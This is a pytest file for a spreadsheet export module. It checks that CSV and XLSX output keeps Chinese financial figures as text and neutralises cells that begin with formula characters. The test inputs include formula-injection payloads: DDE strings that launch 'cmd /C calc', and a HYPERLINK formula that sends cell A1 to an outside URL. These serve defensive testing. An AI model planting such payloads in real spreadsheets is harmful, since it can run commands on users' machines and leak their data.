"""Rows on paper: nothing is rounded, nothing becomes a formula."""

from __future__ import annotations

import csv
import io

import pytest

from qa.sheets import Sheet, as_csv, as_text, as_xlsx, shorten, width

SHEET = Sheet(
    title="收支总表", header=("项目", "金额"), rows=(("合计", "3.00"), ('=HYPERLINK("x")', "1,507.56"), ("", "-0.00"))
)


def test_csv_gives_back_the_strings_and_no_formula() -> None:
    rows = [[f"'{c}" if c.startswith("=") else c for c in r] for r in (SHEET.header, *SHEET.rows)]
    assert list(csv.reader(io.StringIO(as_csv([SHEET]).decode()))) == rows
    assert as_csv([SHEET, SHEET]).decode().count("收支总表") == 2


@pytest.mark.parametrize(
    ("text", "inert"),
    [
        ('=HYPERLINK("http://x/?"&A1)', True),
        ("@SUM(1+1)*cmd|' /C calc'!A0", True),
        ("-培训费", True),
        ("+1+cmd|' /C calc'!A0", True),
        ("-1 +cmd|' /C calc'!A0", True),
        ("-2+3", True),
        ("\t=1+1", True),
        ("\r=1+1", True),
        ("\n=1+1", True),
        ("-3.22*万元", True),
        ("+3,205.79 万元", False),
        ("-3.22万元", False),
        ("-0.50", False),
        ("−0.50", False),
        ("+5.5%", False),
        ("-1,507.56", False),
        ("-", False),
        ("—", False),
        ("1,507.56", False),
        ("培训费", False),
        ("", False),
    ],
)
def test_what_a_spreadsheet_would_work_out_stays_text(text: str, inert: bool) -> None:
    sheet = Sheet(title=text, header=(text, "金额"), rows=((text, "3.00"),))
    written = list(csv.reader(io.StringIO(as_csv([sheet, sheet]).decode(), newline="")))
    told = {row[0] for row in written if row}
    kept = text.replace("\r", "\n")
    assert told == {f"'{kept}" if inert else kept}


def test_xlsx_gives_back_the_strings() -> None:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(as_xlsx([SHEET, SHEET])))
    assert book.sheetnames == ["收支总表", "收支总表 2"]
    rows = [tuple(c.value or "" for c in row) for row in book.worksheets[0].iter_rows()]
    assert tuple(rows) == (SHEET.header, *SHEET.rows)
    assert {c.data_type for row in book.worksheets[0].iter_rows() for c in row if c.value} == {"s"}


@pytest.mark.parametrize("title", ["", "[a]:*?/\\", "三" * 60, "\ud800"])
def test_any_title_makes_a_page(title: str) -> None:
    assert as_xlsx([Sheet(title=title, header=("a",), rows=(("\x00\ud800",),))])


def test_columns_line_up() -> None:
    lines = as_text([SHEET]).decode().splitlines()
    assert lines[0] == "收支总表"
    assert width(lines[2]) == width('=HYPERLINK("x")') + 2 + width("1,507.56")
    assert lines[3].startswith("合计             3.00")


@pytest.mark.parametrize(
    ("text", "room", "cut"), [("abc", 3, "abc"), ("abcd", 3, "ab…"), ("预算数", 6, "预算数"), ("预算数", 5, "预算…")]
)
def test_shorten(text: str, room: int, cut: str) -> None:
    assert shorten(text, room) == cut


def test_a_workbook_has_the_numbers_of_amounts_beside_their_text() -> None:
    from openpyxl import load_workbook

    texts = ("1,234.50", "-0.20", "0", "空白", "", "12345678901234567.89", "约3")
    sheet = Sheet(title="", header=("项目", "数值"), rows=tuple(("甲", text) for text in texts), amounts=(1,))
    page = load_workbook(io.BytesIO(as_xlsx([sheet]))).worksheets[0]
    assert [c.value for c in page[1]] == ["项目", "数值", "数值（供计算）"]
    assert [row[1].value or "" for row in page.iter_rows(min_row=2)] == list(texts), "the text stays as printed"
    numbers = [row[2] for row in page.iter_rows(min_row=2)]
    # What is no plain number, or too long to be held exactly, has none.
    assert [cell.value for cell in numbers] == [1234.5, -0.2, 0, None, None, None, None]
    assert [cell.number_format for cell in numbers[:3]] == ["#,##0.00", "#,##0.00", "#,##0"]
    assert page.column_dimensions["B"].width > 18
    assert as_csv([sheet]).decode().splitlines()[0] == "项目,数值"
